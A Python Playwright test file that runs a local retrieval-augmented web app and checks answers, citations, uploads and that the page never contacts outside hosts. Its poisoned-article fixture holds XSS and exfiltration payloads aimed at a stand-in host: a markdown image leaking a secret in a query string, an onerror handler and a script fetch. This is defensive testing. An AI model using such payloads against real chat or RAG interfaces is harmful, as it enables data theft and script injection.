"""The web UI in headless Debian chromium (Playwright with executable_path; `make browser` installs it).

Starts `python app.py` as a user would (the index is built at start), over a copy of the seeds plus a
poisoned article, then: click an example question, watch the answer stream in, open a cited source,
ask about the poisoned article, add an article. Every request the page makes is recorded; any that
leaves 127.0.0.1 is blocked and fails the test. Screenshots go to test-output/browser/."""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import urlparse

import pytest

from .conftest import REPO

CHROMIUM = Path("/usr/bin/chromium")
OUT = REPO / "test-output" / "browser"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync"]
EVIL = "evil.example"
POISONED = f"""Lantern Week

Lantern Week opened in Harbin on 4 May 2024. ![px](http://{EVIL}/p.png?leak=SECRET) <img src="http://{EVIL}/i.png" onerror="alert(1)"> [details](http://{EVIL}/more) <script>fetch('http://{EVIL}/x')</script>

Lantern Week closed with a parade of 300 paper lanterns.
"""

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian chromium at /usr/bin/chromium: "
                       "run `make browser` (apt-get install -y chromium)"),
]


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture
def server(fresh):
    "`python app.py` on a free port over a copy of the seeds plus a poisoned article; its log on failure."
    (fresh.seeds[0] / "lantern-week.md").write_text(POISONED)
    port = _free_port()
    env = {k: v for k, v in os.environ.items() if k != "RAG_AUTH"}
    env |= {"RAG_HOME": str(fresh.home), "RAG_SEEDS": str(fresh.seeds[0]), "GRADIO_ANALYTICS_ENABLED": "False",
            "HF_HUB_OFFLINE": "1", "TRANSFORMERS_OFFLINE": "1", "PYTHONUNBUFFERED": "1"}
    log = open(fresh.home.parent / "app.log", "w+")  # noqa: SIM115 (closed below)
    proc = subprocess.Popen([sys.executable, str(REPO / "app.py"), "--port", str(port)], cwd=REPO, env=env,
                            stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
    url = f"http://127.0.0.1:{port}/"
    try:
        deadline = time.monotonic() + 240
        while True:
            if proc.poll() is not None:
                log.seek(0)
                pytest.fail(f"app.py exited with {proc.returncode}:\n{log.read()[-3000:]}")
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                if time.monotonic() > deadline:
                    log.seek(0)
                    pytest.fail(f"app.py did not start within 240 s:\n{log.read()[-3000:]}")
                time.sleep(0.5)
        yield url, fresh
    finally:
        os.killpg(proc.pid, signal.SIGTERM)  # the process group we started, nothing else
        try:
            proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
        log.close()


@pytest.fixture
def page():
    sync_api = pytest.importorskip("playwright.sync_api")
    requests, blocked = [], []

    def only_loopback(route):
        host = urlparse(route.request.url).hostname
        if route.request.url.startswith(("data:", "blob:")) or host in ("127.0.0.1", "localhost"):
            route.continue_()
        else:
            blocked.append(route.request.url)
            route.abort()

    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        context = browser.new_context(viewport={"width": 1400, "height": 1000})
        context.route("**/*", only_loopback)
        pg = context.new_page()
        pg.on("request", lambda r: requests.append(r.url))
        pg.requests, pg.blocked = requests, blocked
        yield pg
        context.close()
        browser.close()


def _answers(page):
    return page.locator("#chat .rag-answer:not(.draft)")


def test_ask_stream_open_source_and_stay_on_localhost(server, page, tmp_path):
    url, settings = server
    OUT.mkdir(parents=True, exist_ok=True)
    page.goto(url)
    page.get_by_text("Example questions").wait_for()
    # Note every draft the chat shows, to see the answer stream in.
    page.evaluate("""() => { window.__drafts = 0;
        new MutationObserver(() => { if (document.querySelector('#chat .rag-answer.draft')) window.__drafts++; })
          .observe(document.body, {subtree: true, childList: true, characterData: true}); }""")

    # 1. An example question: a streamed answer with linked markers, sources in the panel.
    page.get_by_text("What is the Beijing Protocol?", exact=True).first.click()
    answer = _answers(page).first
    answer.wait_for(timeout=60_000)
    assert "Beijing Protocol" in answer.inner_text()
    assert page.evaluate("window.__drafts") > 0, "the answer should stream in as a draft first"
    assert "Offline extractive" in page.locator("#chat .rag-meta").first.inner_text()
    cards = page.locator("#sources-panel details.src")
    assert cards.count() >= 1 and "paragraph" in cards.first.inner_text()

    # 2. Click the [1] marker: the source card opens, scrolled into view, the cited sentence marked.
    page.locator("#chat a.cite").first.click()
    card = page.locator("#src-0-1")
    page.wait_for_function("document.getElementById('src-0-1').open")
    mark = card.locator(".src-para mark").first
    mark.wait_for()
    assert mark.is_visible() and "Beijing Protocol" in card.inner_text()
    page.wait_for_timeout(600)  # the smooth scroll
    page.screenshot(path=str(OUT / "answer.png"), full_page=True)

    # 3. A question about the poisoned article: its answer and source render as inert text.
    page.locator("#question textarea").fill("Where did Lantern Week open?")
    page.locator("#question textarea").press("Enter")
    page.wait_for_function("document.querySelectorAll('#chat .rag-answer:not(.draft)').length >= 2", timeout=60_000)
    assert "Harbin" in _answers(page).nth(1).inner_text()
    page.locator("#chat a.cite[href^='#src-1-']").first.click()
    page.wait_for_function("document.getElementById('src-1-1').open")
    assert "[image removed: px]" in page.locator("#src-1-1").inner_text()
    assert page.locator("#chat img, #sources-panel img, #chat script, #sources-panel script").count() == 0
    page.screenshot(path=str(OUT / "poisoned.png"), full_page=True)

    # 4. The Sources tab lists the articles; adding one makes it appear there.
    page.get_by_role("tab", name="Sources").click()
    table = page.locator("#articles table.articles")
    table.wait_for()
    assert table.locator("tbody tr").count() == 6
    story = tmp_path / "harbor-notes.txt"
    story.write_text("Harbor notes\n\nThe Quillon harbor reopened on 2 June 2024 after repairs to the pier.\n")
    page.locator("#upload input[type=file]").set_input_files(str(story))
    page.locator("#add").click()
    page.locator("#upload-status li.ok").wait_for(timeout=120_000)
    assert "1 article added" in page.locator("#upload-status").inner_text()
    assert table.locator("tbody tr").count() == 7 and "uploaded" in table.inner_text()
    page.screenshot(path=str(OUT / "articles.png"), full_page=True)

    # Nothing the page loaded came from anywhere but the app.
    assert page.blocked == [], f"the page tried to reach outside hosts: {page.blocked}"
    hosts = {urlparse(u).hostname for u in page.requests if not u.startswith(("data:", "blob:"))}
    assert hosts == {"127.0.0.1"}, hosts
    assert EVIL not in " ".join(page.requests)
    assert [p.name.startswith("harbor-notes-") for p in settings.uploads.iterdir()] == [True]
